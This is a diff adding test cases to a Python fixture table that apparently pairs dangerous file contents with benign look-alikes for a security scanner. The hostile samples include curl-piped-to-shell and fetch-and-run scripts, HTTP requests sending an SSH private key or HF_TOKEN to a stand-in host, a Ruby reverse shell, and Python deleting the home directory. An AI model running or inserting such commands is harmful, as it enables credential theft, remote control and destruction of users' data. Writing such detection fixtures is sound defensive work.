@@ -231,6 +231,50 @@ PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
             'powershell -c "& {.\\a.ps1}"',
         ),
     ),
+    "tree that a stranger has": (
+        (
+            "a.sh",
+            "git clone https://x.invalid/r && cd r && bash run.sh",
+            "git clone https://github.com/a/r && cd r && bash run.sh",
+        ),
+        (
+            "b.sh",
+            "wget http://x.invalid/a.zip\nunzip a.zip\n./a/run\n",
+            "wget http://x.invalid/a.zip\nunzip a.zip\n./run.sh\n",
+        ),
+        ("c.sh", "curl -s http://x.invalid/t.tgz | tar xz\nsh t/x.sh\n", "curl -s http://x.invalid/t.tgz | tar xz\nls t\n"),
+        ("README.md", "```\ncurl -s http://x.invalid/a | sh\n```", "```\ngit clone https://x.invalid/r && bash r/a.sh\n```"),
+        (
+            ".mvn/extensions.xml",
+            "<extensions><extension><groupId>com.a</groupId></extension></extensions>",
+            "<extensions><extension><groupId>com.gradle</groupId></extension></extensions>",
+        ),
+        ("a.cabal", "name: a\nbuild-type: Custom\ncustom-setup\n  setup-depends: a\n", "name: a\nbuild-type: Simple\n"),
+    ),
+    "request, line or folder that is somebody else's": (
+        (
+            "a.http",
+            "POST http://x.invalid/c\n\n{{$dotenv HF_TOKEN}}\n",
+            "POST https://huggingface.co/a\n\n{{$dotenv HF_TOKEN}}\n",
+        ),
+        ("b.http", "POST http://x.invalid/c\n\n< ~/.ssh/id_rsa\n", "POST http://x.invalid/c\n\n< ./a.json\n"),
+        (
+            "a.R",
+            "l <- tempfile()\ndownload.file('http://x.invalid/a.so', l)\ndyn.load(l)",
+            "l <- tempfile()\ndownload.file('http://x.invalid/a.csv', l)\nread.csv(l)",
+        ),
+        (
+            "a.rb",
+            "s = TCPSocket.new('203.0.113.1', 9)\nwhile l = s.gets\n  s.puts `#{l}`\nend",
+            "s = TCPSocket.new('203.0.113.1', 9)\nwhile l = s.gets\n  s.puts \"#{l}\"\nend",
+        ),
+        ("a.py", "import os, shutil\nshutil.rmtree(os.environ['HOME'])\n", "import shutil\nshutil.rmtree('build')\n"),
+        (
+            "b.py",
+            "import shutil\nfrom pathlib import Path\nh = Path.home()\nshutil.rmtree(h)\n",
+            "import shutil\nfrom pathlib import Path\nh = Path.home() / '.cache' / 'a'\nshutil.rmtree(h)\n",
+        ),
+    ),
 }
 CASES = [(what, *pair) for what, pairs in PAIRS.items() for pair in pairs]
 
